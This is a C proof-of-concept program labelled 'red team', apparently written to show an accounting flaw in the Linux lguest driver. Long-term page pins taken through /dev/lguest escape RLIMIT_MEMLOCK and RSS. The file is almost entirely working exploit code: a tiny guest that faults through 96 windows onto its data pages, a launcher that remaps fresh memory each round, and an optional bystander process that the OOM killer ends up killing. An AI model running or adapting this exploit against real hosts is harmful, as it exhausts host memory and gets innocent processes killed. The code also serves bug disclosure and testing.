/*
 * lgpinhide (red team): a program using /dev/lguest makes the Host hold Host memory that is
 * charged to no limit a process has and is invisible to the OOM killer.
 *
 * The Host pins every Launcher page a shadow page-table entry maps (pin_user_pages_fast with
 * FOLL_LONGTERM) and keeps the pin until that entry goes.  It never accounts the pins
 * (mm->pinned_vm, RLIMIT_MEMLOCK, as VFIO, io_uring and RDMA do), and nothing ties a pinned page
 * to the Launcher's address space any more once the Launcher unmaps it: the page stays,
 * pinned, out of the Launcher's RSS, unswappable, until the Guest is closed.
 *
 * This program runs a tiny Guest with 64 MiB of memory, the top 32 MiB ("the data") mapped
 * again and again at 96 different 32 MiB windows of Guest-virtual space.  Each round the Guest
 * reads one word of every page of the next window (8192 page faults: 8192 pins of the
 * Launcher's current data pages) and notifies; the Launcher then maps fresh anonymous memory
 * over the data (MAP_FIXED).  The old 32 MiB stay pinned by the shadow entries of the earlier
 * window.  After ROUNDS rounds, ROUNDS * 32 MiB are gone from the Host while the Launcher's RSS
 * stays about 32 MiB, under RLIMIT_MEMLOCK of 64 KiB.
 *
 * With BYSTANDER-MIB, a child first takes that much ordinary memory and waits: the rounds go on
 * until the OOM killer has killed it (it, not the Launcher that holds the memory: the OOM
 * killer ranks by RSS), or ROUNDS are done.
 *
 * Usage: lgpinhide ROUNDS [HOLD-SECONDS [BYSTANDER-MIB]]
 */
#include <sys/wait.h>
#include <sys/prctl.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <unistd.h>
#include "tinyguest.h"


#define MEM		(64u << 20)
#define DATA		(32u << 20)
#define DATA_PAGES	(DATA / 4096)

extern const unsigned char guest_code[], guest_code_end[];
asm(".pushsection .rodata\n"
    ".code32\n"
    "guest_code:\n"
    TINY_GUEST_INIT				/* LHCALL_INIT, lguest_data at 0x3000 */
    "\txorl %esi, %esi\n"
    "1:\tmovl $8192, %ecx\n"
    "2:\tmovb (%esi), %dl\n"
    "\taddl $0x1000, %esi\n"
    "\tdecl %ecx\n"
    "\tjnz 2b\n"
    "\tmovl $17, %eax\n"		/* LHCALL_NOTIFY: a round is done */
    "\tmovl %esi, %ebx\n"
    "\txorl %ecx, %ecx\n"
    "\tint $0x1f\n"
    "\tcmpl $0xC0000000, %esi\n"
    "\tjb 1b\n"
    "\tmovl $3, %eax\n"			/* LHCALL_SHUTDOWN */
    "\txorl %ebx, %ebx\n"
    "\tint $0x1f\n"
    "\tjmp .\n"
    "guest_code_end:\n"
    ".popsection");

/* The number after KEY in the /proc file PATH, or -1. */
static long proc_value(const char *path, const char *key)
{
	char line[128];
	long v = -1;
	FILE *f = fopen(path, "r");

	while (f && fgets(line, sizeof(line), f))
		if (!strncmp(line, key, strlen(key)))
			v = atol(line + strlen(key));
	if (f)
		fclose(f);
	return v;
}

static long meminfo(const char *key)
{
	return proc_value("/proc/meminfo", key);
}

static long status(const char *key)
{
	return proc_value("/proc/self/status", key);
}

int main(int argc, char *argv[])
{
	struct lguest_init_request req = { .request = LHREQ_INITIALIZE };
	struct rlimit lock = { 65536, 65536 };
	struct lguest_event ev;
	unsigned int rounds = argc > 1 ? (unsigned int)atoi(argv[1]) : 8, done = 0, w, k;
	int hold = argc > 2 ? atoi(argv[2]) : 0, fd, wstatus;
	int bystander_mib = argc > 3 ? atoi(argv[3]) : 0;
	pid_t bystander = 0;
	long free0, free1, rss;
	unsigned char *mem;
	uint32_t *pgdir, *pt;

	setrlimit(RLIMIT_MEMLOCK, &lock);
	if (bystander_mib > 0) {
		bystander = fork();
		if (bystander == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);	/* and keep no pipe open */
			close(1);
			close(2);
			size_t size = (size_t)bystander_mib << 20, i;
			volatile char *b = malloc(size);

			for (i = 0; b && i < size; i += 4096)
				b[i] = 1;	/* volatile: really touched */
			for (;;)
				pause();
		}
		sleep(2);
	}
	fd = open("/dev/lguest", O_RDWR);
	mem = mmap(NULL, MEM, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (fd < 0 || mem == MAP_FAILED) {
		perror("lgpinhide: /dev/lguest or memory");
		return 1;
	}
	pgdir = (uint32_t *)mem;
	pt = (uint32_t *)(mem + 0x1000);
	for (k = 0; k < 1024; k++)
		pt[k] = (k * 4096) | 3;				/* low 4 MiB at 0xC0000000 */
	pgdir[0xC0000000u >> 22] = 0x1000 | 3;
	for (k = 0; k < 8; k++) {				/* the data's page tables */
		pt = (uint32_t *)(mem + 0x10000 + k * 0x1000);
		for (w = 0; w < 1024; w++)
			pt[w] = (MEM - DATA + (k * 1024 + w) * 4096) | 3;
	}
	for (w = 0; w < 96; w++)				/* 96 windows onto the data */
		for (k = 0; k < 8; k++)
			pgdir[w * 8 + k] = (0x10000 + k * 0x1000) | 3;
	memcpy(mem + 0x2000, guest_code, (size_t)(guest_code_end - guest_code));
	req.mem_base = (uint32_t)(unsigned long)mem;
	req.mem_pages = MEM / 4096;
	req.pgdir = 0;
	req.entry = 0xC0002000;
	if (write(fd, &req, sizeof(req)) != sizeof(req)) {
		perror("lgpinhide: LHREQ_INITIALIZE");
		return 1;
	}
	free0 = meminfo("MemFree:");
	printf("lgpinhide: MemFree %ld kB before; RLIMIT_MEMLOCK 64 kB\n", free0);
	fflush(stdout);
	while (done < rounds) {
		if (read(fd, &ev, sizeof(ev)) != sizeof(ev)) {
			printf("lgpinhide: read: %s\n", strerror(errno));
			return 1;
		}
		if (ev.kind == LGUEST_EVENT_DIED) {
			printf("lgpinhide: the Guest died: %s\n", ev.message);
			break;
		}
		if (ev.kind != LGUEST_EVENT_NOTIFY)
			continue;
		done++;
		/* Forget the data: fresh pages for the next window. */
		if (mmap(mem + MEM - DATA, DATA, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == MAP_FAILED) {
			perror("lgpinhide: mmap");
			return 1;
		}
		if (bystander > 0 && waitpid(bystander, &wstatus, WNOHANG) == bystander) {
			printf("lgpinhide: round %u: the bystander (%d MiB) is gone: %s %d; "
			       "MemFree %ld kB, my VmRSS %ld kB\n", done, bystander_mib,
			       WIFSIGNALED(wstatus) ? "killed by signal" : "exited with",
			       WIFSIGNALED(wstatus) ? WTERMSIG(wstatus) : WEXITSTATUS(wstatus),
			       meminfo("MemFree:"), status("VmRSS:"));
			fflush(stdout);
			bystander = 0;
			break;
		}
		if (done % 2 == 0 || done == rounds) {
			printf("lgpinhide: round %u: MemFree %ld kB, my VmRSS %ld kB, VmLck %ld kB, VmPin %ld kB\n",
			       done, meminfo("MemFree:"), status("VmRSS:"), status("VmLck:"),
			       status("VmPin:"));
			fflush(stdout);
		}
	}
	free1 = meminfo("MemFree:");
	rss = status("VmRSS:");
	printf("lgpinhide: %u rounds: the Host lost %ld kB; my VmRSS is %ld kB: %ld kB pinned outside it\n",
	       done, free0 - free1, rss, free0 - free1 - rss);
	fflush(stdout);
	if (hold > 0)
		sleep((unsigned int)hold);
	if (bystander > 0) {
		printf("lgpinhide: the bystander survived\n");
		kill(bystander, SIGKILL);
		waitpid(bystander, NULL, 0);
	}
	return 0;
}
